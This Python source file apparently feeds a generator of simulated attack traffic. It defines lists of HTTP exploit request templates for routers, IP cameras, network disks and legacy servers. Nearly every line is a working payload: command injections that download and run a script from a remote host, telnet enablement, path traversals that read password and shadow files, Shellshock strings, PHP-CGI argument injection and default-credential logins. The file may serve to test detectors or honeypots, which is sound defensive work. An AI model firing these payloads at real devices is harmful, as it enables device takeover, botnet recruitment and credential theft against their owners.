"""Exploits of known weaknesses in routers, cameras, network disks and old servers."""

from generator.families.web.probe_story import probes

_EXPLOIT = "Remote Code Execution Exploit"

probes("home-routers-and-modems", """
GET /shell?cd+/tmp;rm+-rf+*;wget+http://{wan}/{word}.sh;chmod+777+{word}.sh;sh+{word}.sh
POST /GponForm/diag_Form?images/&XWebPageName=diag&diag_action=ping&dest_host=`busybox+wget+http://{wan}/{word}+-O+-|sh`
GET /setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=rm+-rf+/tmp/*;wget+http://{wan}:{port}/Mozi.m+-O+/tmp/netgear;sh+netgear&curpath=/&currentsetting.htm=1
POST /HNAP1/ ~SOAPAction: http://purenetworks.com/HNAP1/`cd /tmp && wget http://{wan}/{word} && sh {word}`
POST /ctrlt/DeviceUpgrade_1?NewStatusURL=$(/bin/busybox%20wget%20-g%20{wan}%20-l%20/tmp/{word}%20-r%20/mips)
POST /picsdesc.xml?NewInternalClient=`cd%20/tmp/;wget%20http://{wan}/{word}`
POST /wanipcn.xml?NewInternalClient=`busybox%20tftp%20-g%20{wan}`
POST /UD/act?1 ~NewNTPServer1: `cd /tmp;wget http://{wan}/{word}`
POST /tmUnblock.cgi?ttcp_ip=-h+`wget+http://{wan}/{word}.sh`&StartEPI=1
POST /goform/<set_LimitClient_cfg|setUsbUnload|SetNetControlList|formSetPortMapping>?deviceName=;wget%20{wan}/{word}.sh
POST /boafrm/formSysCmd?sysCmd=cd+/tmp;wget+{wan}/{word}&apply=Apply
POST /boaform/admin/formPing?target_addr=%3Bwget+http%3A%2F%2F{wan}%2F{word}+-O-|sh
POST /boaform/admin/formTracert?target_addr=%60{cmd}%60
POST /cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(wget%20http%3A%2F%2F{wan}%2F{word}%20-O-|sh)
GET /cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(id%3E%60{cmd}%60)
GET /cgi-bin/;cd${IFS}/var/tmp;rm${IFS}-rf${IFS}*;${IFS}wget${IFS}http://{wan}/{word};${IFS}sh${IFS}/var/tmp/{word}
GET /cgi-bin/kerbynet?Action=x509view&Section=NoAuthREQ&User=&x509type='%0a{cmd}%0a'
POST /cgi-bin/mainfunction.cgi?action=login&keyPath=%27%0A%2fbin%2fsh${IFS}-c${IFS}'cd${IFS}/tmp;wget${IFS}{wan}'
GET /login.cgi?cli=aa%20aa%27;wget%20http://{wan}/{word}%20-O%20-%3E%20/tmp/kh;sh%20/tmp/kh%27$
POST /diagnostic.php?act=ping&dst=%26%20wget%20http://{wan}/{word}%26
POST /service.cgi?cmd=EVENT%3DCHECKFW%26{cmd}%26
POST /getcfg.php?SERVICES=DEVICE.ACCOUNT%0aAUTHORIZED_GROUP=1
POST /apply_sec.cgi?action=ping_test&ping_ipaddr=127.0.0.1%0a{cmd}
POST /stok=/ds?form=ddns&username=`{cmd}`
GET /userRpm/PingIframeRpm.htm?ping_addr=;{cmd}&doType=ping
GET /cgi?2&stack=tplink-voip&arg=$(telnetd%20-p%20{port})
POST /apply.cgi?current_page=Main_Analysis_Content.asp&SystemCmd=;{cmd}
GET /apply_abstract.cgi?action=start_ddns&ddns_hostname=`{cmd}`
POST /ping.cgi?IPAddr4=;{cmd}&PingSubmit=
GET /dnslookup.cgi?host_name=www.google.com;{cmd}&lookup=Lookup
!RE GET /cgi-bin/ExportSettings.sh
!RE GET /cgi-bin/config.exp 200,404
!RE GET /rom-0 200,404
!TR GET /../../../../../../../etc/RT_config.xml
!RE GET /cgi-bin/DownloadCfg/RouterCfm.cfg 200,404
GET /currentsetting.htm?BRS_swisscom_success.html=&debug=telnetenable
GET /debug.cgi?telnetEnable=1&user=Gearguy
POST /cgi-bin/cstecgi.cgi?topicurl=setting/setWanConnection&wan_type=;{cmd}
POST /cgi-bin/adm.cgi?page=sysCMD&command={cmd}
!LF GET /adm/file.cgi?next_file=%2fetc%2fpasswd
POST /wizard_ipv6.cgi?x={cmd}%3b
""", _EXPLOIT, "T1190", "T1059.004", severity="CRITICAL")

probes("cameras-recorders-and-network-disks", """
PUT /SDK/webLanguage?<language>$(wget%20http://{wan}/{word}%20-O%20webLib/x)</language>
GET /System/configurationFile?auth=YWRtaW46MTEK
GET /Security/users?auth=YWRtaW46MTEK
GET /onvif-http/snapshot?auth=YWRtaW46MTEK
POST /RPC2_Login?userName=admin&clientType=NetKeyboard&loginType=Direct&passwordType=Default
!RE GET /current_config/passwd
!RE GET /current_config/Account1 200,404
!TR GET /..%2f..%2f..%2fmnt/mtd/Config/Account1
!TR GET /../../../../../mnt/mtd/Config/passwd
GET /language/Swedish${IFS}&&cd${IFS}/tmp;wget${IFS}http://{wan}/{word}&&tar${IFS}/string.js
!RE GET /device.rsp?opt=user&cmd=list 200 ~uid=admin
GET /device.rsp?opt=sys&cmd=___S_O_S_T_R_E_A_MAX___&mdb=sos&mdc=cd%20%2Ftmp%3Bwget%20http%3A%2F%2F{wan}%2F{word}
GET /cgi-bin/supervisor/adcommand.cgi?DoShellCmd+strCmd%3D{cmd}
GET /cgi-bin/supervisor/CloudSetup.cgi?exefile={cmd}
POST /board.cgi?cmd=cd%20/tmp;wget%20{wan}/{word}
GET /upgrade_handle.php?cmd=writeuploaddir&uploaddir=%27;{cmd};%27
GET /cgi-bin/nas_sharing.cgi?user=messagebus&passwd=&cmd=15&system=Y2QgL3RtcDt3Z2V0{hex}
GET /cgi-bin/account_mgr.cgi?cmd=cgi_user_add&name=%27;{cmd};%27
GET /cgi-bin/login_mgr.cgi?cmd=login&username=admin&C1=ON;{cmd}
POST /web/google_analytics.php?cmd=set&opt=cloud-device-num&arg=0|{cmd}%20%23
POST /cgi-bin/photo/p/api/album.php?a=setSlideshow&f=qsamplealbum&.php
!TR POST /photo/p/api/video.php?e=../../../etc/shadow
!TR GET /photo/combine.php?type=javascript&g=core-r7rules/../../../hello.php
POST /cgi-bin/filemanager/wfm2Login.cgi?QNAP=%60{cmd}%60
GET /cgi-bin/quick/quick.cgi?func=switch_os&todo=uploaf_firmware_image&{cmd}
!TR POST /webman/3rdparty/DSMobile/../../../../etc/shadow
!TR GET /webapi/entry.cgi?api=SYNO.Core.File&path=%22/../../../etc/synopasswd%22
GET /api/external/7.0/system.System.get_infos?params={username:admin}{cmd}
POST /module/api.php?wap/&TerraMaster=include/makecvs.php?Event=%60{cmd}%60
GET /include/makecvs.php?Event=|{cmd}
GET /axis-cgi/../../view/view.shtml?id=%3C%23exec%20cmd%3D%22{cmd}%22
POST /incl/image_test.shtml?httpDoneUrl=/bin/sh&{cmd}
GET /cgi-bin/operator/servetest?cmd=ntp&ServerName=pool.ntp.org;{cmd};
!RE GET /cgi-bin/snapshot.cgi?loginuse=&loginpas= 200
GET /set_ftp.cgi?next_url=ftp.htm&loginuse=admin&svr=192.168.1.1&pwd=$(wget%20{wan}/{word})
GET /ftptest.cgi?next_url=test_ftp.htm&loginuse=admin&loginpas=&svr=$({cmd})
!RE GET /system.ini?loginuse&loginpas
!RE GET /get_params.cgi?loginuse=&loginpas=
!TR GET /..%2f..%2f..%2f..%2fetc%2fpasswd?GoAhead
POST /cgi-bin/{word}?LD_PRELOAD=/proc/self/fd/0
GET /card_scan_decoder.php?No=30&door=%60{cmd}%60
POST /start_apply.htm?pbx=;{cmd};
!TR GET /tos.html?printer=/../../../../dev/mem&RICOH=;{cmd}
GET /EXCU_SHELL ~cmdnum: '1' confirm1: n content1: cat /etc/passwd
GET /cgi-bin/execute_cmd.cgi?timestamp={big}&cmd={cmd}
POST /dfsms/admin/index.php?ftpuser=;{cmd}
""", _EXPLOIT, "T1190", "T1059.004", severity="CRITICAL")

probes("old-cgi-and-servers", """
GET /cgi-bin/.%2e/.%2e/.%2e/.%2e/<etc/passwd|bin/sh|etc/hosts|etc/shadow>
POST /cgi-bin/.%%32%65/.%%32%65/.%%32%65/.%%32%65/.%%32%65/bin/sh
POST /cgi-bin/%2e%2e/%2e%2e/%2e%2e/%2e%2e/<bin/sh|bin/bash|usr/bin/id>
!TR GET /icons/.%2e/%2e%2e/%2e%2e/%2e%2e/etc/passwd
!TR GET /cgi-bin/%%32%65%%32%65/%%32%65%%32%65/%%32%65%%32%65/etc/passwd
GET /scripts/..%c0%af../winnt/system32/cmd.exe?/c+dir
GET /scripts/..%255c..%255cwinnt/system32/cmd.exe?/c+dir+c:\\
GET /msadc/..%c1%9c..%c1%9c../winnt/system32/cmd.exe?/c+dir
GET /default.ida?XXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXX%u9090%u6858%ucbd3%u7801%u9090
GET /_vti_bin/..%255c..%255c..%255cwinnt/system32/cmd.exe?/c+whoami
PROPFIND /?If=<http://localhost/aaaaaaa%E6%BD%A8%E7%A1%A3>
GET / 200,404,500 ~() { :;}; /bin/bash -c "<wget|curl> http://{wan}/{word} -O /tmp/{word}; sh /tmp/{word}"
GET /cgi-bin/test-cgi 200,404,500 ~() { ignored;};/usr/bin/perl -e 'print "Content-Type: text/plain\\r\\n\\r\\n";system("<id|uname -a|cat /etc/passwd>")'
GET /cgi-mod/index.cgi 200,404 ~() { _; } >_[$($())] { {cmd}; }
GET /cgi-bin/authLogin.cgi 200,404 ~() { :; }; echo; /bin/ping -c 1 {wan}
!TR GET /CFIDE/administrator/enter.cfm?locale=../../../../../../../../../../ColdFusion8/lib/password.properties%00en
GET /CFIDE/wizards/common/_authenticatewizarduser.cfm?_cfclient=true&_variables={%22_metadata%22:{%22classname%22:%22i/../lib/password.properties%22}}
POST /CFIDE/adminapi/accessmanager.cfc?method=foo&_cfclient=true&argumentCollection=<wddxPacket%20version='1.0'><struct%20type='coldfusion.server'>
GET /hax/..CFIDE/wizards/common/utils.cfc?method=wizardHash&inPassword=foo
POST /cf_scripts/scripts/ajax/ckeditor/plugins/filemanager/upload.cfm?path={word}.jsp
POST /flex2gateway/http?%3C!ENTITY%20x%20SYSTEM%20%22file:///etc/passwd%22%3E
POST /cgi-bin/php5?-d+allow_url_include%3don+-d+safe_mode%3doff+-d+auto_prepend_file%3dphp://input+-n
!RE GET /index.php?-s
GET /index.php?-d+allow_url_include=1+-d+auto_prepend_file=http://{wan}/{word}.txt
GET /phpMyAdmin/scripts/setup.php?configuration=O:10:%22PMA_Config%22
POST /sqlite/main.php?phppath=..%2f..%2f
GET /awstats.pl?configdir=|echo;{cmd};echo|
GET /cgi-bin/awstats/awstats.pl?migrate=|{cmd}|awstats052005.{domain}.txt
GET /cgi-bin/webmin/show.cgi/root?cmd={cmd}
POST /password_change.cgi?user={word}&pam=&expired=2&old={cmd}&new1=x&new2=x
POST /package-updates/update.cgi?mode=new&u=acl%2Fapt%26%26{cmd}
!TR GET /unauthenticated/..%01/..%01/..%01/..%01/etc/passwd
POST /login/index.php?centos=;login=$({cmd})
POST /login/index.php?login=$(echo%20{hex}|base64%20-d|bash)
POST /upgrade.php?cyberpanel=;{cmd};%23&statusfile=/dev/null
PUT /dataBases/upgrademysqlstatus?statusfile=/dev/null;{cmd};%23&csrftoken=1
OPTIONS /ftp/getresetstatus?statusfile=/dev/null;{cmd};%23
POST /CMD_API_FILE_EDIT?directadmin=;{cmd}
GET /enterprise/control/agent.php?plesk=HTTP_AUTH_LOGIN:admin'%20or%201=1
POST /cgi-bin/cosmobdf.cgi?%60{cmd}%60
""", _EXPLOIT, "T1190", severity="CRITICAL")
